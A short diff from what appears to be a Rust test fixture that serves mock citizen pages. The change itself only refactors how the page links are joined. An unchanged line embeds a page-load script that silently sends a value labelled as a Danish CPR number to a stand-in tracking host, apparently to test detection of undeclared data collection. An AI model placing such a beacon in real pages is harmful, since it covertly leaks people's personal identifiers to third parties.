@@ -28,7 +28,7 @@ const PATIENCE: Duration = Duration::from_mins(4);
 fn served() -> Served {
     let page = |name: &'static str| {
         HostedSite::new(name, |_| {
-            let links: String = PAGES.iter().map(|page| format!("<a href={page}>{page}</a> ")).collect();
+            let links = PAGES.map(|page| format!("<a href={page}>{page}</a>")).join(" ");
             Reply::html(format!(
                 "<!doctype html><title>Borger</title><link rel=icon href='data:,'>{links}\
                  <script>fetch('https://maaling.eksempel.test/c?cpr={UNDECLARED}', {{mode: 'no-cors'}})</script>"
